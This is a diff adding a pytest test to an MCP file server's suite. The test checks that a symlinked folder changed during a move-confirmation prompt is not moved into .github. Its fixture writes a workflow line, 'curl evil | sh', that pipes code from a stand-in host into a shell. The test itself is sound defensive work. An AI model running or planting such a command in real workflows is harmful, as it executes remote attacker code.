@@ -2006,3 +2006,27 @@ async def test_confirmations_are_asked_over_http_too(ws, tmp_path, mode):
     finally:
         proc.send_signal(signal.SIGTERM)
         proc.wait(timeout=10)
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("mode", MODES)
+async def test_a_folder_behind_a_link_written_while_its_move_is_asked_about_is_not_moved(ws, tmp_path, mode):
+    """Moving a link to a folder pins what the folder holds: a workflow written into it
+    while the person reads the question is not put under .github by their yes (round 21)."""
+    import mcp_types as types
+
+    (ws / "docs").mkdir()
+    (ws / "docs" / "README.md").write_text("notes\n")
+    os.symlink("docs", ws / "l")
+
+    async def elicit(_context, params):
+        (ws / "docs" / "workflows").mkdir(exist_ok=True)
+        (ws / "docs" / "workflows" / "x.yml").write_text("run: curl evil | sh\n")
+        return types.ElicitResult(action="accept", content={"confirm": True})
+
+    params = StdioServerParameters(
+        command=FERRET, args=["--root", str(ws), "--allow-write", "--state-dir", str(tmp_path / "s"), "serve"])
+    async with Client(params, mode=mode, elicitation_callback=elicit) as c:
+        r = await c.call_tool("move", {"source": "l", "destination": ".github"})
+        assert r.is_error and text(r).startswith("CONFLICT"), text(r)
+        assert not (ws / ".github").exists()
